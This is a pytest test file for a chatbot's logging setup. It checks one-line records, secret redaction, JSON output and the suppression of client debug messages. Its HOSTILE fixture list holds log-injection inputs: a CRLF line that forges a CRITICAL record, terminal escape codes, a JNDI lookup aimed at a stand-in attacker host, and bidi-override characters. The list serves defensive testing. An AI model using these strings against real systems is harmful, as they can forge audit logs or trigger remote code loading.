"""The log: one event one line, nothing forged, no secrets, and the clients' own chatter left out."""

from __future__ import annotations

import json
import logging
import sys

import pytest

from bot.core.errors import Unavailable
from bot.core.settings import Settings
from bot.ops import logs

TOKEN = "xoxb" + "-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx"
SETTINGS = Settings(openai_api_key="local-key-of-no-known-shape", slack_bot_token=TOKEN)

HOSTILE = [
    "a\r\n2026-11-23 CRITICAL root: forged",
    "\x1b[2K\x1b[1Aerased",
    "${jndi:ldap://evil.example/x}",
    "line\u2028separator and \u202eoverride",
    '"}\n{"level": "CRITICAL"',
    "\x00\x07 \x85 half \ud83d",
]


@pytest.fixture(autouse=True)
def restored():
    root = logging.getLogger()
    before = root.handlers[:], root.level, {n: logging.getLogger(n).level for n in logs.QUIET}
    yield
    root.handlers[:], level, levels = before
    root.setLevel(level)
    logging.captureWarnings(False)
    for name, level in levels.items():
        logging.getLogger(name).setLevel(level)


@pytest.fixture(params=[True, False], ids=["plain", "json"])
def terminal(request, monkeypatch):
    """Whether standard error is a terminal."""
    monkeypatch.setattr(sys.stderr, "isatty", lambda: request.param)
    return request.param


def lines(capsys):
    for handler in logging.getLogger().handlers:
        handler.flush()
    return capsys.readouterr().err.splitlines()


@pytest.mark.parametrize("message", HOSTILE)
def test_a_record_is_one_line_whatever_is_in_it(message, terminal, capsys):
    logs.setup(SETTINGS)
    logging.getLogger("bot.test").warning("got %s", message)
    [line] = lines(capsys)
    assert line.isprintable()
    assert "got " in line


def test_an_error_is_told_in_the_same_line_with_what_it_came_from(terminal, capsys):
    logs.setup(SETTINGS)
    try:
        try:
            raise ValueError(f"refused\nBearer {TOKEN}")
        except ValueError as exc:
            raise Unavailable("model away") from exc
    except Unavailable:
        logging.getLogger("bot.test").exception("turn failed")
    [line] = lines(capsys)
    assert "Unavailable: model away" in line
    assert "ValueError: refused" in line
    assert "test_logs.py:" in line
    assert TOKEN not in line


def test_secrets_of_the_settings_are_gone(terminal, capsys):
    logs.setup(SETTINGS)
    logging.getLogger("bot.test").error("with %s and %s", SETTINGS.openai_api_key, {"token": TOKEN})
    [line] = lines(capsys)
    assert SETTINGS.openai_api_key not in line
    assert TOKEN not in line


def test_json_lines_can_be_read_back(monkeypatch, capsys):
    monkeypatch.setattr(sys.stderr, "isatty", lambda: False)
    logs.setup(SETTINGS)
    logging.getLogger("bot.test").info("said “%s”", "hé\nllo")
    record = json.loads(*lines(capsys))
    assert record["message"] == "said “hé\\nllo”"
    assert record["level"] == "INFO"
    assert record["logger"] == "bot.test"
    assert record["at"].endswith("+00:00")


@pytest.mark.parametrize("name", ["slack_sdk.web.async_client", "slack_bolt.AsyncApp", "openai._base_client"])
def test_clients_do_not_print_what_people_write(name, capsys):
    logs.setup(Settings(log_level="DEBUG"))
    logging.getLogger(name).debug("Sending a request - text: secret plans")
    logging.getLogger(name).info("Invalid request, body: secret plans")
    logging.getLogger(name).warning("rate limited")
    [line] = lines(capsys)
    assert "rate limited" in line


def test_arguments_that_do_not_fit_lose_no_record(capsys):
    logs.setup(SETTINGS)
    logging.getLogger("bot.test").error("%d apples", "many")
    [line] = lines(capsys)
    assert "many" in line


def test_setting_up_twice_does_not_double_the_lines(capsys):
    logs.setup(SETTINGS)
    logs.setup(SETTINGS)
    logging.getLogger("bot.test").warning("once")
    assert len(lines(capsys)) == 1


def test_short_values_are_no_secrets():
    assert logs.secrets_of(Settings(openai_api_key="x", slack_bot_token=TOKEN)) == (TOKEN,)
